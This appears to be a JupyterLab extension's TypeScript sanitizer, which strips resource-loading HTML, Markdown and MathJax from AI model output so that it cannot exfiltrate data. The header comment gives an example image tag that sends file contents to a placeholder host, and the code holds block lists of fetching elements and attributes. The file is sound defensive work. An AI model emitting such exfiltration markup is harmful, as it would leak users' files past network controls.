/**
 * What the sidebar renders, and model text put into the notebook, never
 * fetches anything.
 *
 * Candidate outputs come from the model's code, and explanations from the
 * model: an `<img src="http://host/?d=<file contents>">` in either would have
 * the browser carry data past the kernel copy's network block, and again on
 * every reopen (turns are kept in notebook metadata). JupyterLab's sanitizer
 * keeps http(s) images, so the sidebar renders through a registry of its own:
 * the same renderers, a sanitizer that drops every attribute or element that
 * loads a resource (images stay only as `data:` URLs of raster formats;
 * links stay links, fetched only when followed), and only MIME types whose
 * renderers cannot fetch (no Vega, Plotly or widget outputs: they show as
 * text).
 */
import type { IRenderMime, IRenderMimeRegistry } from '@jupyterlab/rendermime';

/** Renderers that load nothing by themselves. */
export const SAFE_MIME_TYPES = [
  'text/plain',
  'text/html',
  'text/markdown',
  'text/latex',
  'image/png',
  'image/jpeg',
  'image/gif',
  'image/bmp',
  'image/webp',
  'image/svg+xml',
  'application/json',
  'application/vnd.jupyter.stdout',
  'application/vnd.jupyter.stderr'
];

/** Elements that load or embed something: removed with their content. */
const REMOVED = new Set([
  'link',
  'meta',
  'base',
  'style',
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'video',
  'audio',
  'source',
  'track',
  'portal',
  'use',
  'image',
  'feimage',
  'form'
]);

/** Attributes whose value the browser may fetch. */
const RESOURCE_ATTRIBUTES = new Set([
  'src',
  'srcset',
  'imagesrcset',
  'href',
  'xlink:href',
  'poster',
  'background',
  'lowsrc',
  'dynsrc',
  'longdesc',
  'data',
  'codebase',
  'action',
  'formaction',
  'manifest',
  'ping',
  'cite'
]);

const DATA_IMAGE =
  /^data:image\/(png|jpe?g|gif|bmp|webp);base64,[a-z0-9+/=\s]*$/i;
const CSS_FETCH = /url\s*\(|@import|image-set\s*\(|image\s*\(/i;

/** `html` with everything that would load a resource taken out. */
export function withoutRequests(html: string): string {
  const template = document.createElement('template');
  // A template's content is inert: parsing it here loads nothing.
  template.innerHTML = html;
  const elements = Array.from(template.content.querySelectorAll('*'));
  for (const element of elements) {
    const tag = element.localName.toLowerCase();
    if (REMOVED.has(tag)) {
      element.remove();
      continue;
    }
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.trim();
      if (name === 'style' && CSS_FETCH.test(value)) {
        element.removeAttribute(attribute.name);
      } else if (RESOURCE_ATTRIBUTES.has(name) || name.endsWith(':href')) {
        const link = tag === 'a' && name === 'href';
        const image = tag === 'img' && name === 'src' && DATA_IMAGE.test(value);
        if (!link && !image) {
          element.removeAttribute(attribute.name);
        }
      }
    }
    if (tag === 'img' && !element.hasAttribute('src')) {
      element.setAttribute(
        'alt',
        `[image not loaded: ${element.getAttribute('alt') ?? ''}]`
      );
    }
  }
  return template.innerHTML;
}

/** MathJax commands that style, link or load (its `html` and `require` packages). */
const MATH_COMMANDS =
  /\\(style|class|cssId|href|data|require|unicode|url|includegraphics)(?![A-Za-z])/g;

/**
 * Markdown the model (or a kernel copy) wrote, made inert before it becomes a
 * notebook cell. The sidebar renders through the no-request sanitizer, but a
 * Markdown cell is rendered by JupyterLab's own, which keeps `http(s)`
 * images, on arrival, after Accept and on every reopen, wherever the
 * notebook goes. So the text loses every construct that could load
 * something, whatever the Markdown parser makes of the rest: raw HTML
 * (`<img>`, `<video>`, autolinks: the `<` is escaped), images (`![`), and
 * the MathJax commands that style or load; links are kept as text (their
 * targets shown, never followed: no `](`, no reference definitions, no bare
 * URL turned into a link), and mermaid fences show as code. Escapes inside
 * inline code show literally: a cosmetic cost in model prose, never a
 * request.
 */
export function inertMarkdown(source: string): string {
  let text = source;
  // Removing the backslash could pair an earlier one with the next command: to a fixpoint.
  for (let before = ''; before !== text;) {
    before = text;
    text = text.replace(MATH_COMMANDS, '$1');
  }
  return text
    .replace(/<(?=[A-Za-z/!?])/g, '&lt;')
    .replace(/!\[/g, '!\\[')
    .replace(/\]\(/g, ']\\(')
    .replace(/\]:/g, ']\\:')
    .replace(/:\/\//g, ':\\/\\/')
    .replace(/\bwww\./gi, m => `${m.slice(0, 3)}\\.`)
    .replace(/((?:`{3,}|~{3,})[ \t]*)mermaid/gi, '$1text');
}

/** A sanitizer that runs JupyterLab's, then takes out what would fetch. */
export class NoRequestSanitizer implements IRenderMime.ISanitizer {
  constructor(private readonly inner: IRenderMime.ISanitizer) {}

  get allowNamedProperties(): boolean | undefined {
    return this.inner.allowNamedProperties;
  }

  get allowCommandLinker(): boolean | undefined {
    return this.inner.allowCommandLinker;
  }

  getAutolink(): boolean {
    return this.inner.getAutolink?.() ?? true;
  }

  sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
    return withoutRequests(this.inner.sanitize(dirty, options));
  }
}

/**
 * The sidebar's registry: `registry`'s renderers for the safe MIME types only,
 * with the no-request sanitizer. Everything it renders is untrusted data.
 */
export function noRequestRegistry(
  registry: IRenderMimeRegistry
): IRenderMimeRegistry {
  const clone = registry.clone({
    sanitizer: new NoRequestSanitizer(registry.sanitizer)
  });
  for (const mime of clone.mimeTypes) {
    if (!SAFE_MIME_TYPES.includes(mime)) {
      clone.removeMimeType(mime);
    }
  }
  return clone;
}
